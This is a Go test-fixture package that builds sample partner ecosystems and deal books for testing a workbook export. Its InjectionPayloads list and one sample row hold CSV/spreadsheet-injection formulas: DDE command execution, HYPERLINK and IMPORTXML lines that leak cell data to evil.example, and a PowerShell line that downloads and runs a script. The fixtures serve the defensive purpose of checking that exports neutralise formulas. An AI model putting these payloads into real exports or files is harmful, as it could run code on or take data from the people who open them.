// Package planbooktest builds the ecosystems the tests of the workbook and
// its exports share, as net/http/httptest does for servers: one rich sample
// that exercises every field the app keeps and the workbook holds, a large
// generated one for benchmarks, and one whose every text is a
// spreadsheet-injection payload. It is imported by tests only.
package planbooktest

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"partneratlas/core"

	"github.com/xuri/excelize/v2"
)

// Today is the date the fixtures are built on, so review dates, golden
// files and workbooks do not move.
var Today = time.Date(2026, 3, 15, 0, 0, 0, 0, time.UTC)

// Ecosystem is a sample that exercises every field the app keeps and the
// workbook holds: a fifth criterion on a 0–10 scale, thresholds and plays
// that are not the defaults, ratings, a past review; partners with several
// roles and none, an override with its reason, out-of-scale and missing
// values, names in several scripts, text that looks like a formula or a
// number in unmapped columns, sources with commas and semicolons in their
// names, and 40 generated partners whose scores sit on half-cents, to
// exercise rounding.
func Ecosystem(today time.Time) *core.Ecosystem {
	e := core.NewEcosystem("Acme 生态 — אקמה 🚀", today)
	e.Review.MarkReviewed(time.Date(2025, 9, 1, 0, 0, 0, 0, time.UTC))
	e.Scorecard.AddCriterion("Co-sell readiness", 7.5)
	e.Scorecard.Criteria[4].Min, e.Scorecard.Criteria[4].Max = 0, 10
	e.Scorecard.Criteria[4].Description = "Can their sellers work deals with ours?"
	e.Thresholds = core.Thresholds{Tier1: 72.5, Tier2: 50, Tier3: 30}
	e.Maturity.Rate(core.Prioritization, core.Emerging)
	e.Maturity.Rate(core.Clarity, core.Strategic)
	e.Plays = append(e.Plays[:7:7], core.Play{Role: core.Influencer, Tier: core.Tier2, Type: "Podcast swap",
		Name: "Guest on each other's show", Owner: "=Marketing", Cadence: "Monthly", KPI: "+10% reach"})
	add := func(name, site string, roles []core.Role, formal bool, vals []float64, extras ...string) *core.Partner {
		p := &core.Partner{Name: name, Website: site, Domain: core.RegistrableDomain(site), Roles: roles, Formal: formal,
			Owner: "Dana Ng", Region: "EMEA",
			Sources: []core.Source{{File: "partners.xlsx", Sheet: "List, 2025", Row: len(e.Partners) + 2}, {File: "extra; list.csv", Row: 7}}}
		for i, v := range vals {
			if v >= 0 {
				p.SetValue(e.Scorecard.Criteria[i].Key, v)
			}
		}
		for i := 0; i+1 < len(extras); i += 2 {
			p.Extras = append(p.Extras, core.Extra{Column: extras[i], Value: extras[i+1]})
		}
		e.Partners = append(e.Partners, p)
		return p
	}
	T, C, S, M, I := core.Technology, core.Channel, core.Service, core.Marketplace, core.Influencer
	add("Salesforce", "https://www.salesforce.com", []core.Role{T, M}, true, []float64{5, 5, 4, 5, 9}, "Notes", "=HYPERLINK(\"http://evil.example\",\"x\")", "Phone", "+1 555 0100")
	add("AWS Marketplace", "https://aws.amazon.com", []core.Role{M}, true, []float64{4, 4, 3, 5, 8.5}, "Notes", "-3", "Account ID", "007")
	add("株式会社テスト", "https://test.co.jp", []core.Role{C}, true, []float64{3, 4, 3, 3, 3.3}, "Notes", "日本のパートナー")
	add("شريك عربي", "https://partner.example.sa", []core.Role{S, I, C}, false, []float64{2, 3, 2, 4, 6.7}, "Notes", "نص عربي")
	add("Emoji Labs 🚀", "https://emoji.io", []core.Role{I, T}, false, []float64{4, 2, 5, 1, 0.1}, "Notes", "@SUM(1+1)", "Phone", "  padded  ")
	add("Missing Values Inc", "https://missing.example.com", []core.Role{T}, true, []float64{5, -1, -1, 4, 2.25})
	add("Out Of Scale", "https://oos.example.org", []core.Role{C}, true, []float64{7, 0, 5, 5, 12}, "Phone", "=1+1")
	p := add("Overridden Co", "https://overridden.example", []core.Role{S, C}, true, []float64{1, 1, 1, 1, 0})
	if err := p.SetOverride(core.Tier1, "Board-level strategic deal"); err != nil {
		panic(err)
	}
	add("No Role Yet", "", nil, false, []float64{3, 3, 3, 3, 5}, "Account ID", "0042")
	add("Quotes \"and\" <xml> & a\ttab", "https://quotes.example", []core.Role{I}, false, []float64{2.5, 3.5, 4.5, 1.5, 7.77})
	rng := rand.New(rand.NewPCG(7, 11))
	for i := 0; i < 40; i++ {
		vals := make([]float64, 5)
		for j := range vals {
			vals[j] = float64(1 + rng.IntN(5))
			if j == 4 {
				vals[j] = float64(rng.IntN(1001)) / 100
			}
			if rng.IntN(12) == 0 {
				vals[j] = -1
			}
		}
		add(fmt.Sprintf("Generated %02d", i), fmt.Sprintf("https://gen%02d.example.com", i), []core.Role{core.Roles[i%5]}, i%3 != 0, vals)
	}
	// Verdicts on partners that look alike: one kept apart, one merged.
	e.KeepApart("Generated 01", "Generated 02 Holdings")
	e.SamePartners[core.PairKey("Salesforce Group", "Salesforce")] = true
	return e
}

// Big has n generated partners, every criterion filled, for benchmarks.
func Big(n int, today time.Time) *core.Ecosystem {
	e := core.NewEcosystem("Big", today)
	rng := rand.New(rand.NewPCG(1, 2))
	for i := 0; i < n; i++ {
		p := &core.Partner{Name: fmt.Sprintf("Partner %06d", i), Website: fmt.Sprintf("https://p%06d.example.com", i),
			Domain: fmt.Sprintf("p%06d.example.com", i), Roles: []core.Role{core.Roles[i%5]}, Formal: i%2 == 0,
			Owner: "Owner", Region: "NA", Sources: []core.Source{{File: "big.xlsx", Sheet: "Sheet1", Row: i + 2}},
			Extras: []core.Extra{{Column: "Notes", Value: "note"}, {Column: "CRM ID", Value: fmt.Sprint(100000 + i)}}}
		for _, c := range e.Scorecard.Criteria {
			p.SetValue(c.Key, float64(1+rng.IntN(5)))
		}
		e.Partners = append(e.Partners, p)
	}
	return e
}

// InjectionPayloads are CSV-injection payloads from the OWASP CSV Injection
// page and its references: formulas, DDE, and the characters that start
// one.
var InjectionPayloads = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1+1`,
	`-2+3`,
	`%0A-1+1`,
	"\t=1",
	"\r=1",
	"\n=1",
	` =1+1`,
	`=DDE("cmd";"/C calc";"!A0")A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`,
	`@cmd|'/c notepad'!'A1'`,
	`+cmd|'/c powershell IEX(wget evil.example/x.ps1)'!A0`,
}

// Injection puts each payload in every text a partner carries: name, owner,
// region, override reason and an unmapped column; a negative number stays a
// number.
func Injection(today time.Time) *core.Ecosystem {
	e := core.NewEcosystem("Injection", today)
	for i, s := range InjectionPayloads {
		p := &core.Partner{Name: s + " #" + string(rune('A'+i)), Owner: s, Region: s, Roles: []core.Role{core.Channel},
			Extras: []core.Extra{{Column: "Notes", Value: s}, {Column: "Amount", Value: "-12.5"}}}
		p.SetValue(core.SharedICP, 3)
		e.Partners = append(e.Partners, p)
	}
	return e
}

// Columns maps each header of a header row to its column, for a test that
// reads a sheet or a CSV back.
func Columns(header []string) map[string]int {
	col := map[string]int{}
	for i, h := range header {
		col[h] = i
	}
	return col
}

// WithDeals gives e (the sample of Ecosystem) a deal book of two exports
// that exercises every column of the Deals sheet and every rule of
// attribution: sourced, influenced only and unattributed deals; a deal
// sourced by one partner and influenced by two; a partner named with a
// legal form added, one named twice, a misspelling the user fixed and a
// name that matches no partner; the lead-source rule; the export's own
// percentages; every outcome and deal type; a deal whose status, not its
// stage, decided the outcome; missing dates, terms and amounts; two
// currencies. The window is the last 12 months before Today.
func WithDeals(e *core.Ecosystem) *core.Ecosystem {
	rng := rand.New(rand.NewPCG(3, 5))
	names := make([]string, len(e.Partners))
	for i, p := range e.Partners {
		names[i] = p.Name
	}
	written := func(i int) string {
		n := names[i%len(names)]
		switch i % 7 {
		case 3:
			return n + " Inc." // the name normalisation drops the legal form
		case 5:
			return strings.ToUpper(n)
		}
		return n
	}
	stages := map[core.Outcome][]string{
		core.Won:  {"Closed Won", "Won"},
		core.Lost: {"Closed Lost", "Lost - no decision"},
		core.Open: {"Prospecting", "Negotiation/Review", "Proposal/Price Quote"},
	}
	types := []core.DealType{core.NewBusiness, core.NewBusiness, core.NewBusiness, core.Expansion, core.Renewal}
	start := time.Date(2024, 9, 1, 0, 0, 0, 0, time.UTC)
	var a, b []core.Deal
	for i := 0; i < 140; i++ {
		d := core.Deal{ID: fmt.Sprintf("006%05d", i), Account: fmt.Sprintf("Account %02d", i%45),
			Website: fmt.Sprintf("https://account%02d.example.com", i%45), Currency: "USD", Owner: "Sam Ortiz",
			Type: types[rng.IntN(len(types))], Amount: float64(5_000 + 250*rng.IntN(400))}
		d.Name = d.Account + " — platform"
		d.Created = start.AddDate(0, 0, rng.IntN(540))
		d.Outcome = core.Outcome(rng.IntN(3))
		if d.Outcome != core.Open || i%4 == 0 {
			d.Closed = d.Created.AddDate(0, 0, 14+rng.IntN(150))
		}
		if d.Outcome != core.Open && d.Closed.After(Today) {
			d.Outcome = core.Open
		}
		d.Stage = stages[d.Outcome][rng.IntN(len(stages[d.Outcome]))]
		if i%5 != 0 {
			d.TermMonths = float64(12 * (1 + rng.IntN(3)))
		}
		switch k := rng.IntN(10); {
		case k < 3:
			d.Sourced = written(rng.IntN(len(names)))
		case k < 4:
			d.Sourced = written(rng.IntN(len(names)))
			d.Influencers = []string{written(rng.IntN(len(names))), written(rng.IntN(len(names)))}
		case k < 6:
			d.Influencers = []string{written(rng.IntN(len(names)))}
			if k == 5 {
				d.LeadSource = "Partner Referral" // the one influencer sources it
			}
		}
		if i%2 == 0 {
			a = append(a, d)
		} else {
			d.Currency = "EUR"
			b = append(b, d)
		}
	}
	special := []core.Deal{
		{ID: "S1", Name: "Both ways", Account: "Account 01", Stage: "Closed Won", Outcome: core.Won, Amount: 90_000,
			Created: time.Date(2025, 6, 2, 0, 0, 0, 0, time.UTC), Closed: time.Date(2025, 9, 30, 15, 4, 5, 0, time.UTC),
			Type: core.NewBusiness, TermMonths: 24, Sourced: names[0], Influencers: []string{names[1], names[9], names[0] + " Inc."},
			Shares: map[string]float64{names[0]: 0.5, names[1]: 0.3}},
		{ID: "S2", Name: "Misspelt", Account: "Account 02", Stage: "Closed Won", Outcome: core.Won, Amount: 40_000,
			Created: time.Date(2025, 5, 1, 0, 0, 0, 0, time.UTC), Closed: time.Date(2025, 7, 1, 0, 0, 0, 0, time.UTC),
			Type: core.NewBusiness, Sourced: "Salesforse"},
		{ID: "S3", Name: "Unknown reseller", Account: "Account 03", Stage: "Negotiation/Review", Outcome: core.Open, Amount: 25_000,
			Created: time.Date(2026, 1, 10, 0, 0, 0, 0, time.UTC), Type: core.NewBusiness, Influencers: []string{"Globex Resellers"}},
		{ID: "S4", Name: "Status decided", Account: "Account 04", Stage: "Contract Sent", Outcome: core.Won, Amount: 12_500,
			Created: time.Date(2025, 8, 1, 0, 0, 0, 0, time.UTC), Closed: time.Date(2025, 10, 1, 0, 0, 0, 0, time.UTC),
			Type: core.Expansion, Sourced: names[2]},
		{ID: "S5", Name: "Churned", Account: "Account 05", Stage: "Closed Won", Outcome: core.Won, Amount: -8_000,
			Created: time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC), Closed: time.Date(2025, 12, 1, 0, 0, 0, 0, time.UTC),
			Type: core.Churn, Sourced: names[3]},
		{ID: "S6", Name: "No dates", Account: "Account 06", Stage: "Closed Lost", Outcome: core.Lost, Amount: 7_000,
			Type: core.NewBusiness},
		{ID: "S7", Name: "", Account: "", Website: "https://nameless.example.org", Stage: "", Outcome: core.Open,
			Created: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC), Type: core.NewBusiness, Influencers: []string{names[4], names[5]},
			Shares: map[string]float64{names[4]: 0.25}},
	}
	a = append(a, special...)
	e.AddDeals("opportunities, Q1.csv", a)
	e.AddDeals("hubspot deals.xlsx", b)
	if err := e.MapPartnerName("Salesforse", names[0]); err != nil {
		panic(err)
	}
	e.Deals.Window = core.Window{Kind: core.Last12Months}
	return e
}

// Rows reads a sheet of the workbook in data as a second program would,
// with excelize and raw values: what a test compares the workbook with.
func Rows(tb testing.TB, data []byte, sheet string) [][]string {
	tb.Helper()
	return rowsOf(tb, sheet, func() (*excelize.File, error) { return excelize.OpenReader(bytes.NewReader(data)) })
}

// FileRows is Rows for the workbook at path.
func FileRows(tb testing.TB, path, sheet string) [][]string {
	tb.Helper()
	return rowsOf(tb, sheet, func() (*excelize.File, error) { return excelize.OpenFile(path) })
}

// rowsOf reads sheet of the workbook open gives, as Rows says.
func rowsOf(tb testing.TB, sheet string, open func() (*excelize.File, error)) [][]string {
	tb.Helper()
	f, err := open()
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		tb.Fatal(err)
	}
	return rows
}
